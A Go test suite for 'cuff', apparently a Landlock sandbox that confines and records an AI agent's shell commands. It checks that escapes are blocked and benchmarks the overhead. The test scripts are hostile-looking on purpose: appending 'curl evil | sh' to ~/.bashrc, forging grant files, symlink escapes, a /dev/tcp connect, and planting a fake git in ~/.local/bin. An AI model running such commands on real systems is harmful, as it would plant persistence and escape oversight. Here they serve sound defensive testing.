package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cuff-dev/cuff/recorder/sandbox"
)

// sandboxEnv is a project, a home, a temporary directory and a state
// directory, each apart, for running cuff sandbox for real.
type sandboxEnv struct {
	proj, home, tmp, state string
	env                    []string
}

// newSandboxEnv lays out the folders; the Go caches are the tester's own
// (named by GOCACHE/GOMODCACHE, as a developer's are), so that a go test
// inside the sandbox does not rebuild the standard library.
func newSandboxEnv(t testing.TB) *sandboxEnv {
	t.Helper()
	if st := sandbox.Probe(os.Getenv); !st.Available() {
		t.Skipf("no sandbox on this machine: %s", st.Reason)
	}
	base := t.TempDir()
	e := &sandboxEnv{proj: filepath.Join(base, "proj"), home: filepath.Join(base, "home"),
		tmp: filepath.Join(base, "tmp"), state: filepath.Join(base, "state")}
	for _, d := range []string{filepath.Join(e.proj, ".git"), e.home, e.tmp, e.state} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	e.env = []string{"HOME=" + e.home, "TMPDIR=" + e.tmp, "CUFF_STATE_DIR=" + e.state,
		"XDG_CONFIG_HOME=" + filepath.Join(e.home, ".config"), "NO_COLOR=1", "CUFF_DIR=", "GOTOOLCHAIN=local", "GOFLAGS="}
	for _, k := range []string{"GOCACHE", "GOMODCACHE"} {
		out, err := exec.Command("go", "env", k).Output()
		if err != nil {
			t.Fatalf("go env %s: %v", k, err)
		}
		e.env = append(e.env, k+"="+strings.TrimSpace(string(out)))
	}
	return e
}

func (e *sandboxEnv) run(t *testing.T, dir string, args ...string) result {
	t.Helper()
	return cuffEnv(t, dir, "", e.env, args...)
}

// tree lists every path under dir with its size, to show that nothing
// changed on disk.
func tree(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %d %v\n", p, info.Size(), info.Mode())
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// dropLines leaves out the lines of a tree listing under dir.
func dropLines(listing, dir string) string {
	var b strings.Builder
	for line := range strings.Lines(listing) {
		if !strings.HasPrefix(line, dir+" ") && !strings.HasPrefix(line, dir+"/") {
			b.WriteString(line)
		}
	}
	return b.String()
}

// TestSandboxStopsWritesOutsideTheWorkTree: a child that writes
// ~/.bashrc, the state directory, or a path through a symbolic link to /
// fails with a permission error, and nothing changes on disk.
func TestSandboxStopsWritesOutsideTheWorkTree(t *testing.T) {
	e := newSandboxEnv(t)
	bashrc := filepath.Join(e.home, ".bashrc")
	if err := os.WriteFile(bashrc, []byte("# mine\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(filepath.Dir(e.proj), "other")
	if err := os.Mkdir(other, 0o755); err != nil {
		t.Fatal(err)
	}
	e.env = append(e.env, "OTHER="+other)
	// The caches under ~/.cache (cuff's own temporary folder for sandboxed
	// commands among them) are the sandbox's to make and write.
	home := func() string { return dropLines(tree(t, e.home), filepath.Join(e.home, ".cache")) }
	homeBefore, stateBefore, otherBefore := home(), tree(t, e.state), tree(t, other)
	for name, script := range map[string]string{
		"bashrc":       `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
		"bashrc-new":   `rm -f "$HOME/.bashrc"`,
		"state":        `mkdir -p "$CUFF_STATE_DIR/grants" && echo '{}' > "$CUFF_STATE_DIR/grants/forged.json"`,
		"state-rename": `echo x > "$TMPDIR/f" && mv "$TMPDIR/f" "$CUFF_STATE_DIR/f"`,
		"symlink-to-/": `ln -s / r && echo pwned > "r$CUFF_STATE_DIR/decided.json"`,
		"symlink-home": `ln -s "$HOME" h && echo x >> h/.bashrc`,
		"config":       `mkdir -p "$HOME/.config/cuff" && echo 'gate: {mode: taint}' > "$HOME/.config/cuff/settings.yml"`,
		"ssh":          `mkdir "$HOME/.ssh"`,
		// A sandbox inside the sandbox may narrow it, never widen it.
		"nested": cuffBin + ` sandbox --root "$OTHER" -- touch "$OTHER/f"`,
	} {
		t.Run(name, func(t *testing.T) {
			r := e.run(t, e.proj, "sandbox", "--", "bash", "-c", script)
			if r.code == 0 {
				t.Fatalf("the write went through: %+v", r)
			}
			if !strings.Contains(r.stderr, "Permission denied") && !strings.Contains(r.stderr, "must stay read-only") {
				t.Errorf("not a permission error: %q", r.stderr)
			}
		})
	}
	if got := home(); got != homeBefore {
		t.Errorf("home changed:\n%s\nwas\n%s", got, homeBefore)
	}
	if got := tree(t, e.state); got != stateBefore {
		t.Errorf("state directory changed:\n%s\nwas\n%s", got, stateBefore)
	}
	if got := tree(t, other); got != otherBefore {
		t.Errorf("a nested sandbox widened the outer one:\n%s", got)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
		t.Errorf(".bashrc is now %q", b)
	}
}

// TestSandboxStopsTCP: a child that connects to a listener on 127.0.0.1
// fails with a permission error and the listener sees no connection; with
// --net it connects.
func TestSandboxStopsTCP(t *testing.T) {
	e := newSandboxEnv(t)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	connect := fmt.Sprintf(`exec 3<>/dev/tcp/127.0.0.1/%d && echo connected`, port)
	r := e.run(t, e.proj, "sandbox", "--", "bash", "-c", connect)
	if r.code == 0 || !strings.Contains(r.stderr, "Permission denied") {
		t.Fatalf("connect went through: %+v", r)
	}
	// The child has exited: a connection it made would be queued by now.
	_ = ln.(*net.TCPListener).SetDeadline(time.Now())
	if c, err := ln.Accept(); err == nil {
		c.Close()
		t.Fatal("the listener got a connection from the sandbox")
	}
	// Multipath TCP, which Landlock does not see, and UDP are closed too.
	python, err := exec.LookPath("/usr/bin/python3")
	if err != nil {
		t.Log("no /usr/bin/python3 to make MPTCP and UDP sockets with: not tried")
	}
	for _, proto := range []string{"mptcp", "udp"} {
		if python == "" {
			break
		}
		r := e.run(t, e.proj, "sandbox", "--", python, "-c", fmt.Sprintf(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) if %q == "mptcp" else socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.1", %d))
print("connected")`, proto, port))
		if r.code == 0 || !strings.Contains(r.stderr, "Permission denied") {
			t.Errorf("%s went through: %+v", proto, r)
		}
	}
	_ = ln.(*net.TCPListener).SetDeadline(time.Time{})
	accepted := make(chan error, 1)
	go func() {
		c, err := ln.Accept()
		if err == nil {
			c.Close()
		}
		accepted <- err
	}()
	r = e.run(t, e.proj, "sandbox", "--net", "--", "bash", "-c", connect)
	if r.code != 0 || !strings.Contains(r.stdout, "connected") {
		t.Fatalf("--net: %+v", r)
	}
	select {
	case err := <-accepted:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("--net: the listener saw no connection")
	}
}

// TestSandboxLetsTheWorkTreeTempAndGoCacheBeWritten: writes to the work
// tree, $TMPDIR and the Go build cache work, and go test ./... of a small
// module passes inside the sandbox.
func TestSandboxLetsTheWorkTreeTempAndGoCacheBeWritten(t *testing.T) {
	e := newSandboxEnv(t)
	mod := filepath.Join(e.proj, "m")
	if err := os.MkdirAll(mod, 0o755); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{
		"go.mod": "module example.com/m\n\ngo 1.21\n",
		"m.go":   "package m\n\nfunc Double(x int) int { return 2 * x }\n",
		"m_test.go": `package m

import (
	"os"
	"path/filepath"
	"testing"
)

func TestDouble(t *testing.T) {
	if Double(2) != 4 {
		t.Fatal("2*2")
	}
	if err := os.WriteFile(filepath.Join(t.TempDir(), "f"), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
}
`,
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(mod, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var gocache string
	for _, kv := range e.env {
		if v, ok := strings.CutPrefix(kv, "GOCACHE="); ok {
			gocache = v
		}
	}
	probe := filepath.Join(gocache, fmt.Sprintf("cuff-sandbox-test-%d", time.Now().UnixNano()))
	t.Cleanup(func() { os.Remove(probe) })
	r := e.run(t, mod, "sandbox", "--", "bash", "-c",
		`set -e; echo a > in-tree; mkdir -p sub/dir; mv in-tree sub/dir/; echo b > "$TMPDIR/t"; mv "$TMPDIR/t" moved; echo c > "`+probe+`"; go test -count=1 ./...`)
	if r.code != 0 {
		t.Fatalf("exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
	}
	if !strings.Contains(r.stdout, "ok  \texample.com/m") {
		t.Errorf("go test did not pass: %s", r.stdout)
	}
	for _, p := range []string{filepath.Join(mod, "sub/dir/in-tree"), filepath.Join(mod, "moved"), probe} {
		if _, err := os.Stat(p); err != nil {
			t.Errorf("not written: %v", err)
		}
	}
}

// TestSandboxRefusesWhatItCannotConfine: a work tree that holds a
// protected place (the home directory) is refused, and nothing runs.
func TestSandboxRefusesWhatItCannotConfine(t *testing.T) {
	e := newSandboxEnv(t)
	marker := filepath.Join(e.home, "ran")
	r := e.run(t, e.proj, "sandbox", "--root", e.home, "--", "touch", marker)
	if r.code != sandboxFailed || !strings.Contains(r.stderr, "must stay read-only") {
		t.Errorf("--root HOME: %+v", r)
	}
	r = e.run(t, e.proj, "sandbox", "--write", "~", "--", "touch", marker)
	if r.code != sandboxFailed {
		t.Errorf("--write ~: %+v", r)
	}
	r = cuffEnv(t, e.proj, "", append(e.env, sandbox.SimulateEnv+"=0"), "sandbox", "--", "touch", marker)
	if r.code != sandboxFailed || !strings.Contains(r.stderr, "the sandbox is unavailable") {
		t.Errorf("without Landlock: %+v", r)
	}
	if _, err := os.Stat(marker); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the command ran: %v", err)
	}
	r = e.run(t, e.proj, "sandbox", "--", "no-such-program-xyz")
	if r.code != 127 {
		t.Errorf("missing program: %+v", r)
	}
	r = e.run(t, e.proj, "sandbox", "--", "bash", "-c", "exit 7")
	if r.code != 7 {
		t.Errorf("exit code: %+v", r)
	}
}

// TestExecSandboxRecordsWhatItStopped: cuff exec --sandbox runs the command
// confined, exits with its code, and records the run as sandboxed with the
// path the sandbox stopped.
func TestExecSandboxRecordsWhatItStopped(t *testing.T) {
	e := newSandboxEnv(t)
	target := filepath.Join(e.state, "approvals")
	r := e.run(t, e.proj, "exec", "--sandbox", "--", "bash", "-c", "echo started; mkdir "+target)
	if r.code != 1 || !strings.Contains(r.stdout, "started") {
		t.Fatalf("exec --sandbox: %+v", r)
	}
	if !strings.Contains(r.stderr, "cuff: the sandbox stopped: write "+target) {
		t.Errorf("stderr does not say what was stopped: %q", r.stderr)
	}
	if _, err := os.Stat(target); err == nil {
		t.Fatal("the write went through")
	}
	run := lastBashRun(t, e.proj)
	if run.Sandbox == nil || !run.Sandbox.Confined || len(run.Sandbox.Denied) != 1 || run.Sandbox.Denied[0].Path != target {
		t.Errorf("recorded sandbox: %+v", run.Sandbox)
	}
	if run.Error == nil || run.Error.Code != sandbox.CodeDenied {
		t.Errorf("recorded error: %+v", run.Error)
	}
	if strings.Join(run.Argv, " ") != "bash -c echo started; mkdir "+target {
		t.Errorf("recorded argv is the wrapper's: %q", run.Argv)
	}
	r = cuffEnv(t, e.proj, "", append(e.env, sandbox.SimulateEnv+"=0"), "exec", "--sandbox", "--", "true")
	if r.code != sandboxFailed || !strings.Contains(r.stderr, "unavailable") {
		t.Errorf("exec --sandbox without Landlock: %+v", r)
	}
}

// recordedRun is the part of a bash_run event these tests read.
type recordedRun struct {
	Command string   `json:"command"`
	Argv    []string `json:"argv"`
	Sandbox *struct {
		Confined bool `json:"confined"`
		Denied   []struct {
			Op, Path, Addr string
		} `json:"denied"`
	} `json:"sandbox"`
	Error *struct{ Code, Message string } `json:"error"`
}

// lastBashRun is the newest bash_run recorded in the project.
func lastBashRun(t *testing.T, proj string) recordedRun {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(proj, ".cuff", "recordings", "sessions", "*.jsonl"))
	var last recordedRun
	found := false
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(data)) {
			var ev struct {
				Type string `json:"type"`
			}
			if json.Unmarshal([]byte(line), &ev) == nil && ev.Type == "bash_run" {
				last = recordedRun{} // nothing of an earlier run stays
				if err := json.Unmarshal([]byte(line), &last); err != nil {
					t.Fatal(err)
				}
				found = true
			}
		}
	}
	if !found {
		t.Fatalf("no bash_run recorded in %s", proj)
	}
	return last
}

// TestSandboxWritableComesFromTheUserOnly: sandbox.writable widens the
// sandbox from the user's settings file, never from the project's own
// (which the agent can write).
func TestSandboxWritableComesFromTheUserOnly(t *testing.T) {
	e := newSandboxEnv(t)
	fromProject := filepath.Join(e.home, "from-project")
	fromUser := filepath.Join(e.home, "from-user")
	for _, d := range []string{fromProject, fromUser, filepath.Join(e.proj, ".cuff"), filepath.Join(e.home, ".config", "cuff")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write := func(file, dir string) {
		if err := os.WriteFile(file, []byte("sandbox:\n  writable: ["+dir+"]\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(e.proj, ".cuff", "settings.yml"), "~/from-project")
	r := e.run(t, e.proj, "sandbox", "--print")
	if r.code != 0 || strings.Contains(r.stdout, fromProject) {
		t.Errorf("the project widened its own sandbox: %+v", r)
	}
	os.Remove(filepath.Join(e.proj, ".cuff", "settings.yml"))
	write(filepath.Join(e.home, ".config", "cuff", "settings.yml"), "~/from-user")
	r = e.run(t, e.proj, "sandbox", "--print")
	if r.code != 0 || !strings.Contains(r.stdout, fromUser+"  (sandbox.writable path)") {
		t.Errorf("the user's sandbox.writable is not writable: %+v", r)
	}
	r = e.run(t, e.proj, "sandbox", "--", "touch", filepath.Join(fromUser, "f"))
	if r.code != 0 {
		t.Errorf("write to the user's sandbox.writable: %+v", r)
	}
}

// benchProcess runs one process per iteration with the sandbox test
// environment; the benchmarks below pair each cuff command with the
// obvious alternative, run the same way, for the overhead.
func benchProcess(b *testing.B, dir string, env []string, argv ...string) {
	for b.Loop() {
		cmd := exec.Command(argv[0], argv[1:]...)
		cmd.Dir, cmd.Env = dir, append(os.Environ(), env...)
		if out, err := cmd.CombinedOutput(); err != nil {
			b.Fatalf("%v: %v %s", argv, err, out)
		}
	}
}

// BenchmarkTrue is /bin/true, the floor of BenchmarkSandboxTrue.
func BenchmarkTrue(b *testing.B) {
	e := newSandboxEnv(b)
	benchProcess(b, e.proj, e.env, "/bin/true")
}

// BenchmarkSandboxTrue is cuff sandbox -- true (goal: ≤ 8 ms over true).
func BenchmarkSandboxTrue(b *testing.B) {
	e := newSandboxEnv(b)
	benchProcess(b, e.proj, e.env, cuffBin, "sandbox", "--", "/bin/true")
}

// BenchmarkBashTrue is bash -c true, the floor of BenchmarkExecSandboxTrue.
func BenchmarkBashTrue(b *testing.B) {
	e := newSandboxEnv(b)
	benchProcess(b, e.proj, e.env, "bash", "-c", "true")
}

// BenchmarkExecSandboxTrue is cuff exec --sandbox -- true, recorded
// (goal: ≤ 30 ms over bash -c true).
func BenchmarkExecSandboxTrue(b *testing.B) {
	e := newSandboxEnv(b)
	benchProcess(b, e.proj, e.env, cuffBin, "exec", "--sandbox", "--", "true")
}

// TestSandboxCannotBeWidenedByReplacingItsWorkTree: a sandboxed command
// cannot replace a work tree lying in the temporary directory with a link
// to ~/.local/bin (the shared temporary directory takes no links); and a
// link found there, however it came, does not get ~/.local/bin writable:
// cuff refuses the policy and runs nothing.
func TestSandboxCannotBeWidenedByReplacingItsWorkTree(t *testing.T) {
	e := newSandboxEnv(t)
	proj := filepath.Join(e.tmp, "proj")
	bin := filepath.Join(e.home, ".local", "bin")
	for _, d := range []string{filepath.Join(proj, ".git"), bin} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	r := e.run(t, proj, "sandbox", "--root", proj, "--", "bash", "-c", `cd .. && mv proj proj.old && ln -s "$HOME/.local/bin" proj`)
	if r.code == 0 || !strings.Contains(r.stderr, "Permission denied") {
		t.Errorf("a link made in the shared temporary directory: %+v", r)
	}
	if _, err := os.Lstat(proj); err == nil {
		t.Fatal("the work tree is back: the rename did not happen")
	}
	if err := os.Symlink(bin, proj); err != nil { // as if made outside the sandbox
		t.Fatal(err)
	}
	r = e.run(t, e.proj, "sandbox", "--root", proj, "--", "touch", filepath.Join(bin, "git"))
	if r.code != sandboxFailed || !strings.Contains(r.stderr, "could be replaced from inside the sandbox") {
		t.Errorf("the widened sandbox: %+v", r)
	}
	if _, err := os.Stat(filepath.Join(bin, "git")); err == nil {
		t.Fatal("a program was planted in ~/.local/bin")
	}
}
